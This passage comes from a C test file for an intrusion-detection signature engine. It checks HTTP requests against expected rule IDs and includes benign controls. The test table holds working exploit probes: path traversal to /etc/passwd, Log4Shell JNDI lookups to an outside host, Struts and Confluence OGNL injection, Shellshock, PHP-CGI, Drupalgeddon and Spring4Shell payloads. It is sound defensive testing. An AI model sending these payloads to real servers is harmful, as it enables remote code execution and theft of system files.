	vp_sig_set_free(set);
}
END_TEST

#define RQ(first, rest) first " HTTP/1.1\r\nHost: app.example\r\n" rest "\r\n"

static const struct shipped_case {
	const char *payload, *want;
} shipped_cases[] = {
	/* attacks */
	{ RQ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", ""), "1000001" },
	{ RQ("POST /cgi-bin/%2e%2e/%2e%2e/%2e%2e/etc/passwd", ""), "1000001" },
	{ RQ("GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", ""), "1000002" },
	{ RQ("GET /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", ""), "1000002" },
	{ RQ("GET /cgi-bin/.%2%65/.%2%65/.%2%65/bin/sh", ""), "1000003" },
	{ RQ("GET /", "User-Agent: ${jndi:ldap://203.0.113.9:1389/a}\r\n"), "1000004" },
	{ RQ("GET /", "X-Api-Version: ${JNDI:rmi://203.0.113.9/a}\r\n"), "1000004" },
	{ RQ("GET /", "X-Api-Version: ${${lower:j}ndi:ldap://203.0.113.9/a}\r\n"), "1000005" },
	{ RQ("GET /", "Referer: ${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}\r\n"), "1000005" },
	{ RQ("GET /", "X-Forwarded-For: ${j${env:NOPE:-n}di:dns://x/a}\r\n"), "1000005" },
	{ RQ("GET /?q=%24%7Bjndi:ldap://203.0.113.9/a%7D", ""), "1000006" },
	{ RQ("GET /?q=%24%7b%24%7blower:j%7dndi%3aldap://x/a%7d", ""), "1000006" },
	{ RQ("POST /struts2-showcase/fileupload/upload.action",
	     "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER"
	     "_ACCESS).(#cmd='id')}\r\n"), "1000007" },
	{ RQ("POST /index.action", "Content-type: ${#context['xwork.MethodAccessor.denyMethod"
	     "Execution']=false}.multipart/form-data\r\n"), "1000007" },
	{ RQ("POST /app/greeting", "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
	     "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25"),
	  "1000008" },
	{ RQ("GET /app/greeting?class%2emodule%2eclassLoader%2eURLs%5B0%5D=0", ""), "1000008" },
	{ RQ("PUT /shell.jsp/", "Content-Length: 5\r\n\r\n<% %>"), "1000009" },
	{ RQ("PUT /shell.jsp%20", ""), "1000009" },
	{ RQ("GET /cgi-bin/status", "User-Agent: () { :; }; /bin/bash -c 'id'\r\n"), "1000010" },
	{ RQ("GET /cgi-bin/status", "Cookie:() { ignored; }; echo; /bin/id\r\n"), "1000010" },
	{ RQ("POST /pages/doenterpagevariables.action",
	     "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
	     "queryString=aaa\\u0027%2b#{3*33}%2b\\u0027"), "1000011" },
	{ RQ("POST /pages/createpage-entervariables.action?queryString=%5cu0027%2b%7bClass"
	     ".forName%28%27javax.script.ScriptEngineManager%27%29%7d%2b%5cu0027", ""),
	  "1000011" },
	{ RQ("GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang."
	     "Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22"
	     "%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29."
	     "setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/", ""), "1000012" },
	{ RQ("GET /index.php/PHP%0Ais_the_shittiest_lang.php?QQQQQQQQQQQQQQQQQQQ",
	     "D-Pisos: 8=D\r\nEbut: mamku tvoyu\r\n"), "1000013" },
	{ RQ("POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
	     "Content-Length: 18\r\n\r\n<?php system(id);"), "1000014" },
	{ RQ("GET /cgi-bin/php5?%2dd+allow_url_include%3don+%2dd+safe_mode%3doff", ""),
	  "1000014" },
	{ RQ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	     "Content-Length: 21\r\n\r\n<?php echo md5('x');"), "1000015" },
	{ RQ("POST /_ignition/execute-solution", "Content-Type: application/json\r\n\r\n"
	     "{\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\"
	     "MakeViewVariableOptionalSolution\","
	     "\"parameters\":{\"variableName\":\"x\",\"viewFile\":\"phar://x\"}}"), "1000016" },
	{ RQ("POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_"
	     "format=drupal_ajax", "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
	     "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]"
	     "=markup&mail[#markup]=id"), "1000017" },
	{ RQ("POST /?q=user/password&name%5b%23post_render%5d%5b%5d=passthru&name%5b%23type%5d"
	     "=markup&name%5b%23markup%5d=id", ""), "1000017" },
	{ RQ("POST /user/register?element_parents=account/mail/%23value&ajax_form=1",
	     "\r\nmail[#lazy_builder][0]=exec&mail[#lazy_builder][1][]=id"), "1000018" },
	{ RQ("GET /api/index.php/v1/config/application?public=true", ""), "1000019" },
	{ RQ("GET /api/v1/users?public=true&page[limit]=10", ""), "1000019" },
	{ RQ("GET /public/plugins/alertlist/../../../../../../../../etc/passwd", ""), "1000020" },
	/* A generic encoded dot-dot segment: the Apache rule fires too. */
	{ RQ("GET /public/plugins/text/%2e%2e/%2e%2e/%2e%2e/etc/grafana/grafana.ini", ""),
	  "1000001,1000020" },
	/* benign */
	{ RQ("GET /index.html", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n"),
	  "" },
	{ RQ("GET /search?q=100%25+%2e+rate&lang=en", ""), "" },
	{ RQ("GET /docs/a.b/../c.html", ""), "" },
	{ RQ("POST /upload", "Content-Type: multipart/form-data; boundary=----x\r\n\r\n"
	     "------x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nhello\r\n"
	     "------x--"), "" },
	{ RQ("POST /api/render", "Content-Type: application/json\r\n\r\n"
	     "{\"tpl\":\"Hello ${name}, total ${amount}\","
	     "\"js\":\"var f = function() { return 1; }\"}"),
	  "" },
	{ RQ("GET /public/plugins/alertlist/module.js", ""), "" },
	{ RQ("GET /api/index.php/v1/content/articles", "Authorization: Bearer x\r\n"), "" },
	{ RQ("GET /index.php/blog/2021/post-title", ""), "" },
	{ RQ("PUT /api/items/42.json", "Content-Type: application/json\r\n\r\n{}"), "" },
	{ RQ("GET /pages/viewpage.action?pageId=123&queryString=abc", ""), "" },
	{ RQ("GET /app?sort=price%7Basc%7D&filter=%24lt", ""), "" },
	{ RQ("POST /node/add", "\r\nform_id=node_form&body[value]=render+me&title=pre_render"),
	  "" },
	{ RQ("GET /static/phpunit-report.html", ""), "" },
	{ RQ("GET /?classloader=1&module=x", ""), "" },
};

START_TEST(test_shipped_match)
{
	const struct shipped_case *tc = &shipped_cases[_i];
	struct vp_sig_set *set = shipped_set();
	struct pkt_spec spec = TCP("");
	struct hits h = { .len = 0 };
	struct vp_sig_thread *th = vp_sig_thread_new(set);
	struct vp_packet p;

	ck_assert_ptr_nonnull(th);
	spec.payload = tc->payload;
	make_packet(&p, &spec);
	vp_sig_match_packet(set, th, &p, collect_hit, &h);
	ck_assert_msg(strcmp(h.buf, tc->want) == 0, "payload %d: got \"%s\", want \"%s\"", _i,
		      h.buf, tc->want);
	/* Not to the server, or not to an HTTP port: never. */
	h.len = 0;
	h.buf[0] = '\0';
	p.flow_flags = FL_TC;
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, collect_hit, &h), 0);
	p.flow_flags = FL_TS;
	p.dport = 443;
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, collect_hit, &h), 0);
	vp_sig_thread_free(th);
	vp_sig_set_free(set);
}
END_TEST

static Suite *rules_suite(void)
{
	Suite *s = suite_create("rules");
	TCase *tc;

	tc = tcase_create("parse");
	tcase_add_loop_test(tc, test_valid, 0, N(valid_cases));
	tcase_add_loop_test(tc, test_invalid, 0, N(invalid_cases));
	tcase_add_loop_test(tc, test_structure, 0, N(struct_cases));
	tcase_add_test(tc, test_too_many_elems);
	tcase_add_test(tc, test_rule_too_long);
	tcase_add_test(tc, test_duplicate_sid);
	tcase_add_test(tc, test_many_sids);
	tcase_add_test(tc, test_classtypes);
	suite_add_tcase(s, tc);

	tc = tcase_create("load");
	tcase_add_test(tc, test_load_file);
	tcase_add_test(tc, test_load_long_lines);
	tcase_add_test(tc, test_load_dir);
	tcase_add_test(tc, test_load_missing);
	suite_add_tcase(s, tc);

	tc = tcase_create("match");
	tcase_add_loop_test(tc, test_match, 0, N(match_cases));
	tcase_add_test(tc, test_match_stop_and_guards);
	tcase_add_test(tc, test_pcre_limits);
	suite_add_tcase(s, tc);

	tc = tcase_create("shipped");
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_shipped_load);
	tcase_add_loop_test(tc, test_shipped_match, 0, N(shipped_cases));
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(rules_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
